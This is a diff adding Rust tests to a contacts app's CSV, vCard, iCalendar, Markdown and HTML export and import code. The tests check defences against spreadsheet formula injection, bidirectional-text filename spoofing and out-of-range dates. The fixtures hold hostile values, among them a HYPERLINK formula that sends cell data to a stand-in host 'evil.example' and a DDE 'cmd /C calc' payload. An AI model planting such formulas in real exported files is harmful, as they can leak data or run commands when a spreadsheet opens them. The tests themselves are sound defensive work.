@@ -413,3 +413,174 @@ fn csv_headers_are_recognised_in_the_command_line_too() {
     assert!(header.is_recognised());
     assert_eq!(header.exporter, Some("Google Contacts"));
 }
+
+/// Whether a spreadsheet would take a cell for a formula (OWASP's "CSV Injection").
+fn runs_in_a_spreadsheet(cell: &str) -> bool {
+    cell.starts_with(['\t', '\r', '\n']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
+}
+
+#[test]
+fn a_csv_export_holds_no_formula_and_reads_back_unchanged() {
+    let mut ws = Workspace::named("Shop");
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")",
+        "+45 20 30 40 50",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+2",
+        "'=quoted already",
+        "'tis the season",
+    ];
+    for (n, text) in hostile.iter().enumerate() {
+        let mut person = Person::named(format!("{text} {n}"));
+        person.organisation = (*text).to_owned();
+        person.life.notes = format!("{text}\nsecond line");
+        person.contact.phones.push(Labelled { label: "mobile".into(), value: (*text).to_owned() });
+        // A tag never holds the separators the reader splits tags on.
+        person.tags.push(text.replace([',', ';'], " "));
+        person.milestones.push(Milestone {
+            kind: MilestoneKind::Birthday,
+            date: PartialDate::md(4, 15).expect("date"),
+            ..Milestone::default()
+        });
+        ws.people.push(person);
+    }
+    for lang in ["en", "da"] {
+        let bytes = formats::write(&ws, Format::Csv, &ExportWhat { journey: None, person: None, lang }).expect("csv");
+        let separator = csv::separator_for(lang);
+        let mut reader = ::csv::ReaderBuilder::new().delimiter(separator).has_headers(false).from_reader(&bytes[3..]);
+        let mut rows = 0;
+        for record in reader.records() {
+            let record = record.expect("a row");
+            for cell in &record {
+                assert!(!runs_in_a_spreadsheet(cell), "{lang}: {cell:?} would run");
+            }
+            rows += 1;
+        }
+        assert_eq!(rows, hostile.len() + 1);
+        let text = String::from_utf8(bytes.clone()).expect("UTF-8");
+        assert!(text.contains("'+45 20 30 40 50") && text.contains("'--04-15"), "{text}");
+        let back = read(&bytes, Format::Csv, lang).expect("reads back");
+        for (original, incoming) in ws.people.iter().zip(&back.people) {
+            let person = &incoming.person;
+            assert_eq!(person.name, original.name.trim(), "{lang}");
+            assert_eq!(person.organisation, original.organisation.trim(), "{lang}");
+            assert_eq!(person.life.notes, original.life.notes.trim(), "{lang}");
+            assert_eq!(person.contact.phones[0].value, original.contact.phones[0].value.trim(), "{lang}");
+            assert_eq!(person.tags, original.tags.iter().map(|t| t.trim()).collect::<Vec<_>>(), "{lang}");
+            assert_eq!(person.milestones[0].date, original.milestones[0].date, "{lang}");
+        }
+    }
+}
+
+#[test]
+fn a_cell_holding_the_other_separator_is_quoted_so_no_cell_starts_inside_it() {
+    let mut ws = Workspace::named("Shop");
+    let mut person = Person::named("Anne Lund");
+    person.life.notes = "Fisker;=HYPERLINK(\"http://evil.example\")".into();
+    ws.people.push(person);
+    // Written with `,` and opened where `;` separates (or the reverse): still one cell.
+    for (lang, other) in [("en", b';'), ("da", b',')] {
+        let bytes = formats::write(&ws, Format::Csv, &ExportWhat { journey: None, person: None, lang }).expect("csv");
+        let mut reader =
+            ::csv::ReaderBuilder::new().delimiter(other).has_headers(false).flexible(true).from_reader(&bytes[3..]);
+        for record in reader.records() {
+            for cell in &record.expect("a row") {
+                assert!(!runs_in_a_spreadsheet(cell), "{lang}: {cell:?} would run");
+            }
+        }
+    }
+}
+
+/// Every bidirectional formatting character Unicode has.
+const BIDI: &str = "\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}\u{2066}\u{2067}\u{2068}\u{2069}\u{200E}\u{200F}\u{061C}";
+
+#[test]
+fn bidirectional_formatting_reaches_no_file_written_for_others() {
+    let mut ws = Workspace::named(format!("Shop{BIDI}"));
+    let mut person = Person::named(format!("Anne Lund\u{202E}gnp.exe{BIDI}"));
+    person.organisation = format!("Bager{BIDI}");
+    person.life.notes = format!("Note\u{202E}{BIDI}");
+    person.contact.emails.push(Labelled { label: format!("work{BIDI}"), value: format!("a{BIDI}@x.example") });
+    person.contact.website = format!("https://x.example/{BIDI}");
+    person.tags.push(format!("tag{BIDI}"));
+    person.milestones.push(Milestone {
+        kind: MilestoneKind::Custom,
+        label: format!("Opening{BIDI}"),
+        date: PartialDate::ymd(2019, 5, 1).expect("date"),
+        ..Milestone::default()
+    });
+    person.life.family.push(FamilyMember {
+        name: format!("Ida{BIDI}"),
+        relation: Relation::Other(format!("niece{BIDI}")),
+        birthday: PartialDate::ymd(2015, 5, 3),
+        ..FamilyMember::default()
+    });
+    let mut map = Template::CustomerJourney.create();
+    map.name = format!("Journey{BIDI}");
+    map.phases[0].name = format!("Phase{BIDI}");
+    map.cards.push(Card {
+        phase: map.phases[0].id,
+        lane: map.lanes[0].id,
+        text: format!("Card\u{202E}{BIDI}"),
+        ..Card::default()
+    });
+    ws.people.push(person);
+    ws.journeys.push(map);
+    let (anne, map) = (&ws.people[0], &ws.journeys[0]);
+    let cases = [
+        (Format::Vcf, None, None),
+        (Format::Vcf4, None, None),
+        (Format::Csv, None, None),
+        (Format::Ics, None, None),
+        (Format::Md, Some(map), None),
+        (Format::Html, Some(map), None),
+        (Format::Md, None, Some(anne)),
+    ];
+    for (format, journey, person) in cases {
+        let bytes = formats::write(&ws, format, &ExportWhat { journey, person, lang: "en" }).expect("written");
+        let text = String::from_utf8(bytes).expect("UTF-8");
+        let found: Vec<String> =
+            text.chars().filter(|c| BIDI.contains(*c)).map(|c| format!("U+{:04X}", u32::from(c))).collect();
+        assert!(found.is_empty(), "{format:?}: {found:?}");
+        assert!(text.contains("Anne Lundgnp.exe") || journey.is_some(), "{format:?}: the rest of the text stays");
+    }
+    // What other programs' files carry is dropped on reading too.
+    let card = format!("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bo\u{202E}gnp.exe\r\nNOTE:x{BIDI}y\r\nEND:VCARD\r\n");
+    let read_card = read(card.as_bytes(), Format::Vcf, "en").expect("vcf");
+    assert_eq!(
+        (read_card.people[0].person.name.as_str(), read_card.people[0].person.life.notes.as_str()),
+        ("Bognp.exe", "xy")
+    );
+    let row = format!("Name,Notes\nBo\u{202E}gnp.exe,x{BIDI}y\n");
+    let read_row = read(row.as_bytes(), Format::Csv, "en").expect("csv");
+    assert_eq!(
+        (read_row.people[0].person.name.as_str(), read_row.people[0].person.life.notes.as_str()),
+        ("Bognp.exe", "xy")
+    );
+}
+
+#[test]
+fn a_year_past_9999_is_no_date_in_any_reader() {
+    for bday in ["100000101", "10000-01-01", "+10000-01-01"] {
+        let card = format!("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bo\r\nBDAY:{bday}\r\nEND:VCARD\r\n");
+        let parsed = read(card.as_bytes(), Format::Vcf, "en").expect("vcf");
+        let bo = &parsed.people[0];
+        assert!(bo.person.milestones.is_empty(), "{bday}: {:?}", bo.person.milestones);
+        assert!(bo.person.life.notes.contains(bday), "{bday}: kept as text");
+    }
+    for cell in ["10000-01-01", "1/1/10000", "01.01.10000", "+10000-01-01"] {
+        let row = format!("Name,Birthday\nBo,{cell}\n");
+        let parsed = read(row.as_bytes(), Format::Csv, "en").expect("csv");
+        let bo = &parsed.people[0];
+        assert!(bo.person.milestones.is_empty(), "{cell}: {:?}", bo.person.milestones);
+        assert!(bo.person.life.notes.contains(cell), "{cell}: kept as text");
+    }
+    // Year 0 is vCard's "the year is not known", in either reader.
+    let card = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bo\r\nBDAY:0000-04-15\r\nEND:VCARD\r\n";
+    let row = "Name,Birthday\nBo,0000-04-15\n";
+    for (bytes, format) in [(card, Format::Vcf), (row, Format::Csv)] {
+        let parsed = read(bytes.as_bytes(), format, "en").expect("read");
+        assert_eq!(parsed.people[0].person.milestones[0].date, PartialDate::md(4, 15).expect("date"), "{format:?}");
+    }
+}
